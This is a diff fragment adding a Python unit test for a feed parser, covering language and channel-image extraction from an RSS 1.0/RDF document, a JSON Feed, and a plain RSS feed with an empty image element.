+    rdf_xml = """<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
+            xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/">
+        <channel rdf:about="https://rdf.example/">
+            <title>RDF</title><link>https://rdf.example/</link><dc:language>de</dc:language>
+            <image rdf:resource="https://rdf.example/logo.gif"/>
+        </channel>
+        <image rdf:about="https://rdf.example/logo.gif">
+            <title>RDF</title><url>https://rdf.example/logo.gif</url>
+            <link>https://rdf.example/</link>
+        </image>
+    </rdf:RDF>"""
+    feed = parser.parse_content(rdf_xml)
+    assert feed.language == "de"
+    assert feed.image == ChannelImage(
+        url="https://rdf.example/logo.gif", title="RDF", link="https://rdf.example/"
+    )
+    assert parser.parse_content(
+        rdf_xml.split("<image rdf:about")[0] + "</rdf:RDF>"
+    ).image == ChannelImage(url="https://rdf.example/logo.gif")
+
+    json_feed = '{"version": "https://jsonfeed.org/version/1.1", "title": "JSON",'
+    json_feed += ' "language": "fr", "favicon": "https://json.example/favicon.png", "items": []}'
+    feed = parser.parse_content(json_feed)
+    assert (feed.language, feed.image.url) == ("fr", "https://json.example/favicon.png")
+
+    plain = parser.parse_content("<rss><channel><title>A</title><image/></channel></rss>")
+    assert (plain.language, plain.image) == (None, None)